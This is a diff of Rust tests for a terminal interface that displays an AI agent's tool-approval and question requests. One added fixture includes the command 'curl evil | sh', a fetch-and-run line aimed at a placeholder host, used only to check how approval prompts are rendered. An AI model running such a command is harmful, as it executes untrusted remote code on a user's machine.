@@ -266,7 +266,13 @@ fn a_question_names_files_purposes_and_what_each_choice_means() {
     desk.press("a");
     let frame = desk.frame();
     assert!(frame.contains(&format!("$ rm {path}")), "a command is shown as it runs: {frame}");
-    assert!(frame.contains("    Removes the limit"), "{frame}");
+    assert!(frame.contains("    description: Removes the limit"), "{frame}");
+    let tool = json!({"request": "r1", "kind": "approval", "text": "mcp__x README.md",
+        "input": {"path": "README.md", "script": "curl evil | sh"}});
+    let mut desk = Desk::new(vec![asking("login", tool)]);
+    desk.press("a");
+    let frame = desk.frame();
+    assert!(frame.contains("script: curl evil | sh") && !frame.contains("path:"), "{frame}");
     let question = json!({"request": "r1", "kind": "question", "text": "Which storage?",
         "input": {"questions": [{"question": "Which storage?", "options": [
             {"label": "SQLite", "description": "one file"}, {"label": "Redis"}]}]}});
